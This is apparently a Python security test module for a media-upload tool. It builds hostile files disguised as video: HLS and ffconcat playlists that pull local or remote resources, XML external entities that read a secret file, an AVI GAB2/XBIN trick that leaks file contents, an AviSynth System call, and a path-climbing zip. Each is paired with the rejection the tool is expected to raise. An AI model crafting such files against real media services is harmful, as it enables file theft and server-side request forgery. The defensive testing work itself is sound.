"""Files that ask the reader to open something else: other files, addresses, programmes (scenario 15)."""

from __future__ import annotations

from collections.abc import Callable

from clipdesk.media.errors import (
    DocumentNotMedia,
    MediaError,
    NotMedia,
    PictureNotMedia,
    PlaylistNotMedia,
    TextNotMedia,
    UnsupportedFormat,
)
from tests.hostile.attack import Attack, Place

_HLS = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:1\n{extra}#EXTINF:1,\n{target}\n#EXT-X-ENDLIST\n"
_TARGETS: dict[str, str] = {
    "http": "{server}/a.ts",
    "file, absolute": "file://{pipe}",
    "file beside it": "ok.mp4",
    "path, absolute": "{pipe}",
    "concat of a file and http": "concat:{secret}|{server}/a.ts",
    "subfile": "subfile,,start,0,end,64,,:{pipe}",
    "crypto over http": "crypto+{server}/a.ts",
    "cache over http": "cache:{server}/a.ts",
    "async over file": "async:file:{pipe}",
    "tcp": "tcp://127.0.7.3:{port}",
    "ftp": "ftp://127.0.7.3:{port}/a.ts",
    "gopher": "gopher://127.0.7.3:{port}/a",
    "rtmp": "rtmp://127.0.7.3:{port}/live/a",
    "data with a playlist in it": "data:application/x-mpegurl;base64,I0VYVE0zVQo=",
}


def _hls(target: str, extra: str = "", head: bytes = b"") -> Callable[[Place], bytes]:
    return lambda place: head + _fill(_HLS.replace("{target}", target).replace("{extra}", extra), place)


def _text(text: str, encoding: str = "utf-8") -> Callable[[Place], bytes]:
    return lambda place: _fill(text, place).decode().encode(encoding)


def _fill(text: str, place: Place) -> bytes:
    words = {"server": place.server, "port": str(place.port), "pipe": str(place.pipe), "secret": str(place.secret)}
    for name, value in words.items():
        text = text.replace("{" + name + "}", value)
    return text.encode()


def _id3(size: int) -> bytes:
    """An empty ID3v2 tag (id3.org, 2.3.0 section 3.1): players skip it before they ask what follows."""
    return b"ID3\x03\x00\x00" + bytes((size >> shift) & 0x7F for shift in (21, 14, 7, 0)) + bytes(size)


def _neex(target: str) -> Callable[[Place], bytes]:
    """An AVI whose subtitle track (GAB2) is a playlist that reads a text as an XBIN picture."""

    def build(place: Place) -> bytes:
        playlist = b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0\n" + _fill(target, place) + b"\n#EXT-X-ENDLIST\n"
        gab2 = b"GAB2\x00\x02\x00" + bytes(10) + b"\x04\x00" + len(playlist).to_bytes(4, "little") + playlist
        stream = b"txts" + bytes(52)
        header = _riff(b"strl", _chunk(b"strh", stream) + _chunk(b"strf", b"subtitles\x00"), b"LIST")
        lists = _riff(b"hdrl", _chunk(b"avih", bytes(56)) + header, b"LIST")
        return _riff(b"AVI ", lists + _riff(b"movi", _chunk(b"00tx", gab2), b"LIST"), b"RIFF")

    return build


def _chunk(name: bytes, data: bytes) -> bytes:
    return name + len(data).to_bytes(4, "little") + data + bytes(len(data) % 2)


def _riff(kind: bytes, data: bytes, name: bytes) -> bytes:
    return _chunk(name, kind + data)


def _playlists() -> list[Attack]:
    found = [
        Attack(f"HLS named .mp4: {name}", "a.mp4", _hls(target), PlaylistNotMedia) for name, target in _TARGETS.items()
    ]
    http = _TARGETS["http"]
    for name, extra in {
        "key": '#EXT-X-KEY:METHOD=AES-128,URI="{server}/key"\n',
        "map": '#EXT-X-MAP:URI="file://{pipe}"\n',
        "other sound": '#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{server}/a.m3u8"\n',
        "master": "#EXT-X-STREAM-INF:BANDWIDTH=1\n{server}/b.m3u8\n",
    }.items():
        found.append(Attack(f"HLS {name}", "a.m3u8", _hls("ok.mp4", extra), PlaylistNotMedia))
    found += [
        Attack("HLS named .m3u8: http", "a.m3u8", _hls(http), PlaylistNotMedia),
        Attack("HLS named .ts", "a.ts", _hls(_TARGETS["file, absolute"]), PlaylistNotMedia),
        Attack("HLS after a byte order mark", "a.mp4", _hls(http, head=b"\xef\xbb\xbf"), PlaylistNotMedia),
        Attack("HLS after blank lines", "a.mp4", _hls(http, head=b"\n" * 100), PlaylistNotMedia),
        Attack("HLS in UTF-16", "a.mp4", _text("\ufeff" + _HLS.replace("{target}", http), "utf-16"), TextNotMedia),
        Attack("HLS behind an ID3 tag", "a.mp3", _hls(http, head=_id3(64)), NotMedia),
        Attack("HLS behind a long ID3 tag", "a.mp3", _hls("ok.mp4", head=_id3(8000)), NotMedia),
    ]
    return found


def _concatenations() -> list[Attack]:
    return [
        Attack(f"ffconcat named .mp4: {name}", "a.mp4", _text(f"ffconcat version 1.0\nfile '{target}'\n"), error)
        for name, target, error in (
            ("beside it", "ok.mp4", PlaylistNotMedia),
            ("absolute", "{pipe}", PlaylistNotMedia),
            ("http", "{server}/a.ts", PlaylistNotMedia),
        )
    ] + [
        Attack("ffconcat without its first line", "a.mp4", _text("file 'ok.mp4'\nfile '{pipe}'\n"), TextNotMedia),
    ]


_TEXTS: dict[str, tuple[str, str, type[MediaError]]] = {
    "DASH over http": (
        "a.mpd",
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><BaseURL>{server}/'
        "</BaseURL></Period></MPD>",
        PlaylistNotMedia,
    ),
    "DASH with an entity that is a file": (
        "a.mp4",
        '<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{secret}">]><MPD><Period><BaseURL>&x;'
        "</BaseURL></Period></MPD>",
        PlaylistNotMedia,
    ),
    "SMIL": ("a.mp4", '<smil><body><video src="{server}/a.mp4"/></body></smil>', PlaylistNotMedia),
    "PLS": ("a.mp4", "[playlist]\nFile1={server}/a.mp3\nNumberOfEntries=1\n", PlaylistNotMedia),
    "XSPF": ("a.mp4", "<playlist><trackList><track><location>{server}/a</location></track></trackList></playlist>",
             TextNotMedia),
    "ASX": ("a.wmv", '<asx version="3"><entry><ref href="{server}/a.wmv"/></entry></asx>', TextNotMedia),
    "SmoothStreaming": ("a.ism", '<SmoothStreamingMedia><StreamIndex Url="{server}/a"/></SmoothStreamingMedia>',
                        TextNotMedia),
    "IMF composition": ("a.xml", "<CompositionPlaylist><Id>urn:uuid:0</Id></CompositionPlaylist>", TextNotMedia),
    "SDP": ("a.mp4", "v=0\nc=IN IP4 127.0.7.3\nm=video {port} RTP/AVP 96\na=rtpmap:96 AV1/90000\n", TextNotMedia),
    "RTSP redirect": ("a.mp4", "RTSPtextRTSP://127.0.7.3:{port}/a\n", TextNotMedia),
    "Internet shortcut": ("a.mp4", "[InternetShortcut]\nURL={server}/a.mp4\n", TextNotMedia),
    "SVG with http": ("a.mp4", '<svg xmlns="http://www.w3.org/2000/svg"><image href="{server}/a.png"/></svg>',
                      TextNotMedia),
    "SVG with a file": ("a.svg", '<?xml version="1.0"?><svg><image href="file://{secret}"/></svg>', TextNotMedia),
    "SVG with an entity": (
        "a.svg", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}">]><svg><text>&x;</text></svg>', TextNotMedia,
    ),
    "ASS with a font of its own": (
        "a.ass", "[Script Info]\n[Fonts]\nfontname: ../../{secret}\n!!!!\n[Events]\nDialogue: 0,0,1,x,,0,0,0,,\\fnx a\n",
        TextNotMedia,
    ),
    "VobSub index": ("a.mp4", "# VobSub index file, v7\ntimestamp: 00:00:00:000, filepos: 000000000\n", TextNotMedia),
    "AviSynth script": ("a.mp4", 'AviSource("{secret}")\nSystem("id")\n', TextNotMedia),
    "ffmetadata": ("a.mp4", ";FFMETADATA1\ntitle=x\n[CHAPTER]\nSTART=0\nEND=1\n", TextNotMedia),
    "HTML that calls home": ("a.mp4", '<html><video src="{server}/a.mp4"></video></html>', TextNotMedia),
}  # fmt: skip


def _documents() -> list[Attack]:
    eps = b"%PDF-1.7\n1 0 obj<</Type/Action/S/URI/URI({server})>>endobj\n"
    return [
        Attack("AVI that reads a file (GAB2, XBIN)", "a.mp4", _neex("file://{secret}"), UnsupportedFormat),
        Attack("AVI that calls home (GAB2)", "a.avi", _neex("{server}/a"), UnsupportedFormat),
        Attack("PDF that calls home", "a.mp4", lambda place: _fill(eps.decode(), place), DocumentNotMedia),
        Attack("zip with a path that climbs out", "a.mp4", _climbing_zip, DocumentNotMedia),
        Attack("TIFF", "a.mp4", lambda _place: b"II*\x00" + bytes(200), PictureNotMedia),
    ]


def _climbing_zip(_place: Place) -> bytes:
    name = b"../../outside/written.txt"
    head = b"PK\x03\x04\x14" + bytes(21) + len(name).to_bytes(2, "little") + bytes(2)
    return head + name


def all_playlists() -> list[Attack]:
    """Every attack of scenario 15 but the reference movies (see `boxes`)."""
    texts = [Attack(name, file, _text(text), error) for name, (file, text, error) in _TEXTS.items()]
    return [*_playlists(), *_concatenations(), *texts, *_documents()]
